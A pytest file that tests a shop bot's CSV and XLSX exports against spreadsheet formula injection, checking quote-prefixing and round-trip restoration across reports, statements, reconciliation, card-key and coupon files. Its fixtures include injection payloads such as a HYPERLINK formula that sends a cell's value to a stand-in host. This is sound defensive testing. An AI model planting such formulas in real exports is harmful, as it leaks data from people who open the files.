"""Every CSV and XLSX the project hands out keeps names and codes as text: a product, channel or
distributor name, a provider's transaction id or a card key that starts like a formula never
opens as one, and the original text is recoverable (CSV: drop one leading ``'``; XLSX: the cell
is that text). Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select, update

from quanyi.bot.operator.statements import distributor_statement, settlement_statement, statement_csv
from quanyi.bot.outbox_sender import Document
from quanyi.core.books import commissions, reports
from quanyi.core.books.reconcile import CSV_COLUMNS, mismatches_csv
from quanyi.core.books.settlement import Figures
from quanyi.core.catalog import coupons
from quanyi.core.catalog.products import add_product
from quanyi.core.distributors import accounts as distributors
from quanyi.core.models import Channel, Coupon, Distributor, Order, Product
from quanyi.core.money import Money
from quanyi.core.platform import export
from quanyi.core.platform.outbox import Outgoing
from quanyi.core.services import Core
from quanyi.core.stock import allocations as channels
from quanyi.core.stock.items import import_stock
from tests.fakebot import FakeTelegram
from tests.helpers import new_order, product_with_stock, sandbox_event
from tests.test_agent_chat import sender, settings  # noqa: F401  (fixtures: no per-chat pacing, the allocation notice goes out too)
from tests.test_bot_chat import shop, tg  # noqa: F401  (fixtures)
from tests.test_distributors import make_distributor, refer
from tests.test_reconcile import HEADER, paid_orders, run, statement_rows
from tests.test_settlement import paid, settle

NAMES = ['=HYPERLINK("http://x/?"&A1,"y")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
# What a spreadsheet starts a formula with (the full-width forms too).
FORMULA_CHARS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
ADMIN = 9000
DAY = date(2025, 3, 10)


# --- reading files back ----------------------------------------------------------------------


def csv_rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def live(cell: str) -> bool:
    """A spreadsheet would run the CSV cell: it starts like a formula and is not a plain number."""
    if cell == "-" or re.fullmatch(r"-?\d+(?:\.\d+)?", cell):  # a lone "-" is our "none"
        return False
    return cell[:1] in FORMULA_CHARS or cell.lstrip()[:1] in FORMULA_CHARS


def assert_no_live_cell(rows: Iterable[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not live(cell), repr(cell)


def assert_quoted(cell: str, original: str) -> None:
    """The cell is the original behind one quote, and reading it back gives the original."""
    assert cell == "'" + original
    assert export.restore(cell) == original


def workbook_sheet(data: bytes) -> Worksheet:
    # No cell of ours is a formula in the file itself, whatever a reader makes of it.
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b't="str"' not in book.read(name)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value != "-" and unescape(cell.value)[:1] in FORMULA_CHARS:
                assert cell.quotePrefix, repr(cell.value)  # Excel keeps it text even when edited
    return sheet


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


# --- the writer itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [*NAMES, "\uff1dSUM(A1)", "\uff0b1", "\uff0d1", "\uff20x", "  =1", "\u3000=1", "'already", "'=1", "@"],
)
def test_a_text_starting_like_a_formula_gets_one_quote_and_reads_back_exactly(text):
    cell = export.neutralise(text)
    assert cell == "'" + text
    assert export.restore(cell) == text


@pytest.mark.parametrize("text", ["VIP membership", "会员", "A-1", "-", "1+1", "x=y", "", "50%", "#N/A"])
def test_ordinary_text_is_written_as_it_is(text):
    assert export.neutralise(text) == text
    assert export.restore(export.neutralise(text)) == text


def test_numbers_stay_numbers_negative_ones_included():
    rows = csv_rows(export.csv_text([[-5, Decimal("-1.50"), Money(-1500, "CNY"), Money(300, "JPY"), None, 0]]))
    assert rows == [["-5", "-1.50", "-15.00", "300", "", "0"]]


def test_the_csv_writer_quotes_commas_quotes_and_line_breaks_whatever_the_line_end():
    cells = ["a,b", 'say "hi"', "two\nlines", "bare\rcr", "tab\there", " lead"]
    for line_end in ("\n", "\r\n"):
        text = export.csv_text([cells, ["next"]], line_end=line_end)
        assert text.endswith("next" + line_end)
        assert '"bare\rcr"' in text  # the csv module leaves a bare CR unquoted with "\n" line ends
        assert csv_rows(text) == [cells, ["next"]]


def test_the_csv_writer_never_writes_a_nul():
    text = export.csv_text([["a\x00b", "\x00=1"]])
    assert "\x00" not in text
    assert csv_rows(text) == [["a\ufffdb", "\ufffd=1"]]


def test_a_row_of_one_empty_cell_is_still_a_row():
    assert csv_rows(export.csv_text([["h"], [""], ["x"]])) == [["h"], [""], ["x"]]


def test_the_csv_bytes_carry_a_bom_only_when_asked():
    assert export.csv_bytes([["名"]], bom=True) == "\ufeff名\r\n".encode()
    assert export.csv_bytes([["名"]], line_end="\n") == "名\n".encode()


@pytest.mark.parametrize("value", [1.5, True, date(2025, 1, 1)])
def test_a_cell_of_another_type_is_refused_rather_than_guessed(value):
    with pytest.raises(TypeError):
        export.csv_text([[value]])
    with pytest.raises(TypeError):
        export.xlsx_bytes("t", ["h"], [[value]])


def test_xlsx_text_cells_are_strings_exactly_and_numbers_are_numbers():
    texts = [*NAMES, "#N/A", "a\x01b", "_x0041_ kept", "line\nbreak", "-"]
    data = export.xlsx_bytes("sales by product 2025-03-01..2025-03-10", ["h"] * len(texts), [texts])
    sheet = workbook_sheet(data)
    assert sheet.title == "sales by product 2025-03-01..20"
    cells = list(sheet[2])
    assert [unescape(c.value) for c in cells] == texts  # what Excel shows is the text itself
    assert all(c.data_type == "s" for c in cells)  # not a formula, not an error code
    assert [c.quotePrefix for c in cells] == [True] * len(NAMES) + [False] * 5

    money = export.xlsx_bytes("m", ["net", "yen", "n"], [[Money(-1500, "CNY"), Money(300, "JPY"), -2]])
    row = list(workbook_sheet(money)[2])
    assert [Decimal(str(c.value)) for c in row] == [Decimal("-15"), Decimal("300"), Decimal("-2")]
    assert [c.data_type for c in row] == ["n", "n", "n"]
    assert [c.number_format for c in row[:2]] == ["0.00", "0"]


# --- sales reports (quanyi report, /report) --------------------------------------------------


async def named_sales(core: Core, tmp_path: Path) -> None:
    """One paid order per name: product P<i>, channel c<i> and distributor 600+i all carry NAMES[i]."""
    for i, name in enumerate(NAMES):
        await product_with_stock(core, tmp_path, sku=f"P{i}", units=1)
        async with core.db.transaction() as session:
            await channels.add_channel(session, f"c{i}", f"Channel {i}")
        agent = await make_distributor(core, 600 + i)
        placed = await new_order(core, sku=f"P{i}", user_id=1000 + i)
        await core.fulfiller.submit(sandbox_event(placed.order.number, placed.order.amount))
        async with core.db.transaction() as session:
            # The names as they can be stored: a Telegram name is kept as sent; a leading tab or
            # CR is set directly because the operator forms trim them.
            await session.execute(update(Product).where(Product.sku == f"P{i}").values(name=name))
            await session.execute(update(Channel).where(Channel.code == f"c{i}").values(name=name))
            await session.execute(update(Distributor).where(Distributor.id == agent.id).values(name=name))
            await session.execute(
                update(Order).where(Order.id == placed.order.id).values(channel=f"c{i}", distributor_id=agent.id)
            )


async def report_tables(core: Core) -> dict[str, reports.Table]:
    span = reports.period(core.settings.timezone, days=2)
    async with core.db.read() as session:
        return {view: await reports.report(session, view, span) for view in ("product", "channel", "distributor")}


async def test_report_csv_keeps_product_channel_and_distributor_names_text(core, tmp_path):
    await named_sales(core, tmp_path)
    for view, table in (await report_tables(core)).items():
        data = reports.to_csv(table)
        assert data.startswith(b"\xef\xbb\xbf")  # the BOM stays
        rows = csv_rows(data)
        assert rows[0] == table.headers
        assert_no_live_cell(rows)
        names = column(rows, "name")
        assert sorted(names) == sorted("'" + name for name in NAMES), view
        assert sorted(export.restore(cell) for cell in names) == sorted(NAMES)
        assert set(column(rows, "net")) == {"15.00"}


async def test_report_xlsx_keeps_product_channel_and_distributor_names_text(core, tmp_path):
    await named_sales(core, tmp_path)
    for view, table in (await report_tables(core)).items():
        sheet = workbook_sheet(reports.to_xlsx(table))
        headers = [cell.value for cell in sheet[1]]
        assert headers == table.headers
        name = headers.index("name") + 1
        cells = [sheet.cell(row, name) for row in range(2, sheet.max_row + 1)]
        assert sorted(unescape(cell.value) for cell in cells) == sorted(NAMES), view
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
        net = sheet.cell(2, headers.index("net") + 1)
        assert net.data_type == "n" and Decimal(str(net.value)) == 15


async def test_report_files_sent_in_chat_keep_names_text(core, tmp_path, shop):
    await named_sales(core, tmp_path)
    admin = shop.user(ADMIN, "en")
    await admin.send("/report csv distributor")
    doc = await admin.expect(lambda m: m.kind == "document")
    rows = csv_rows(bytes(shop.document_of(doc)))
    assert_no_live_cell(rows)
    assert sorted(column(rows, "name")) == sorted("'" + name for name in NAMES)

    await admin.send("/report xlsx product")
    doc = await admin.expect(lambda m: m.kind == "document")
    sheet = workbook_sheet(bytes(shop.document_of(doc)))
    assert sorted(unescape(row[1]) for row in sheet.iter_rows(min_row=2, values_only=True)) == sorted(NAMES)


# --- settlement statements -------------------------------------------------------------------


async def test_settlement_statements_keep_distributor_names_text(core, tmp_path):
    await product_with_stock(core, tmp_path, units=len(NAMES))
    async with core.db.transaction() as session:
        await commissions.set_rate(session, 1, 1000)
    agents: dict[int, str] = {}
    for i, name in enumerate(NAMES):
        agent = await make_distributor(core, 600 + i)
        async with core.db.transaction() as session:  # the name as Telegram gave it
            await session.execute(update(Distributor).where(Distributor.id == agent.id).values(name=name))
        await refer(core, 7000 + i, agent)
        await paid(core, user_id=7000 + i, day=DAY)
        agents[agent.id] = name
    await settle(core, DAY)

    parts = await settlement_statement(core, Outgoing(1, ADMIN, "settlement_statement", {"day": str(DAY)}, "en", 0))
    document = parts[-1]
    assert isinstance(document, Document) and document.data.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(document.data)
    assert_no_live_cell(rows)
    named = {row[2]: row[3] for row in rows[1:] if row[1] == "distributor"}
    assert named.keys() == {str(i) for i in agents}
    for agent_id, name in agents.items():
        assert_quoted(named[str(agent_id)], f"{name} (#{agent_id})")

    for agent_id, name in agents.items():
        payload = {"day": str(DAY), "distributor_id": agent_id}
        own = await distributor_statement(core, Outgoing(2, 600, "distributor_statement", payload, "zh", 0))
        assert isinstance(own[-1], Document)
        rows = csv_rows(own[-1].data)
        assert_no_live_cell(rows)
        assert_quoted(rows[1][3], f"{name} (#{agent_id})")


def test_a_statements_negative_amounts_stay_numbers():
    refunded_more = Figures("total", "all", "CNY", 1, 1, 0, 0, 1500, -1500, -150, 0)
    rows = csv_rows(statement_csv("2025-03-10", [refunded_more], {}))
    assert rows[1][7:] == ["0.00", "0.00", "15.00", "-15.00", "-1.50", "0.00"]


# --- reconciliation mismatches ---------------------------------------------------------------


async def test_reconciliation_mismatches_keep_the_providers_ids_text(core, tmp_path):
    await paid_orders(core, tmp_path, 1)
    ours = await statement_rows(core)
    ids = [*NAMES, "\uff1dSUM(A1)", "'x"]  # full-width and already-quoted ones too
    theirs = [[name, name, "15.00", "success", ours[0][4]] for name in ids]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(ours + theirs)  # "\r=1" quoted, as a provider would
    report = await run(core, (HEADER + out.getvalue()).encode())
    rows = csv_rows(mismatches_csv(report))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert_no_live_cell(rows)
    # The statement reader trims cells: "\t=1" and "\r=1" are one transaction "=1".
    expected = {name.strip() for name in ids}
    assert {export.restore(cell) for cell in column(rows, "provider_txn_id")} == expected
    assert {export.restore(cell) for cell in column(rows, "order_number")} == expected
    for cell in column(rows, "provider_txn_id"):
        assert_quoted(cell, export.restore(cell))
    assert set(column(rows, "their_amount")) == {"15.00"}


# --- bulk purchase codes ---------------------------------------------------------------------

CODES = ["-AB12", '=HYPERLINK("http://x/?"&A1,"y")', "+1", "@SUM(A1)", "\uff1d1", "'quoted"]


async def test_a_bulk_purchase_file_keeps_every_code_readable_and_text(core, tmp_path, tg, sender):
    alice = 2001
    path = tmp_path / "codes.txt"
    path.write_text("".join(f"-S{i} {code}\n" for i, code in enumerate(CODES)))
    async with core.db.transaction() as session:
        await add_product(session, sku="VIP", name="VIP membership", kind="card_key", price=Money.parse("15.00", "CNY"))
    await import_stock(core.db, core.keyring, "VIP", path)
    agent = await make_distributor(core, alice)
    async with core.db.transaction() as session:
        await channels.allocate(session, "VIP", str(alice), len(CODES))
        await distributors.set_cost_price(session, "VIP", 1000, tier="default")
        await distributors.adjust_balance(session, agent, 10_000, reason="top_up", actor="operator:9000")
    async with core.db.transaction() as session:
        await distributors.bulk_buy(
            session, user_id=alice, sku="VIP", quantity=len(CODES), chat_id=alice, language="en"
        )

    assert await sender.run_once() >= 1
    document = await tg.wait_for(lambda m: m.kind == "document", chat_id=alice)
    rows = csv_rows(bytes(tg.document_of(document)))
    assert rows[0] == ["serial", "secret"]
    assert_no_live_cell(rows)
    for row in rows[1:]:
        assert all(cell.startswith("'") for cell in row)  # every serial and code here needs its quote
    # The buyer (a person or a program) drops one leading quote and has the code exactly.
    got = {(export.restore(serial), export.restore(secret)) for serial, secret in rows[1:]}
    assert got == {(f"-S{i}", code) for i, code in enumerate(CODES)}


# --- coupon codes ----------------------------------------------------------------------------


async def named_coupon(core: Core, name: str, code: str) -> int:
    async with core.db.transaction() as session:
        coupon = await coupons.create_coupon(session, name="campaign", kind="amount", value=500, currency="CNY")
        await coupons.add_code(session, coupon.id, code)
        # As stored: the operator forms trim a leading tab or CR, so it is set directly.
        await session.execute(update(Coupon).where(Coupon.id == coupon.id).values(name=name))
        return coupon.id


async def test_the_coupon_export_keeps_the_campaign_name_text(core):
    for i, name in enumerate(NAMES):
        coupon_id = await named_coupon(core, name, f"SPRING{i}")
        async with core.db.read() as session:
            rows = csv_rows(await coupons.export_csv(session, coupon_id))
        assert rows == [
            ["code", "uses", "max_uses", "coupon_id", "coupon"],
            [f"SPRING{i}", "0", "1", str(coupon_id), "'" + name],
        ]
        assert export.restore(rows[1][4]) == name


async def test_coupon_files_sent_in_chat_keep_the_campaign_name_text(core, shop: FakeTelegram):
    coupon_id = await named_coupon(core, NAMES[0], "SPRING1")
    admin = shop.user(ADMIN, "en")
    await admin.send(f"/coupon_export {coupon_id}")
    exported = csv_rows(bytes(shop.document_of(await admin.expect(lambda m: m.kind == "document"))))
    assert_no_live_cell(exported)
    assert column(exported, "coupon") == ["'" + NAMES[0]]

    await admin.send("/coupons")
    listing = await admin.expect("Coupons")
    await admin.press(listing, f"➕10 #{coupon_id}")
    generated = csv_rows(bytes(shop.document_of(await admin.expect(lambda m: m.kind == "document"))))
    assert_no_live_cell(generated)
    assert column(generated, "coupon") == ["'" + NAMES[0]] * 10
    async with core.db.read() as session:
        assert await session.scalar(select(Coupon.name).where(Coupon.id == coupon_id)) == NAMES[0]
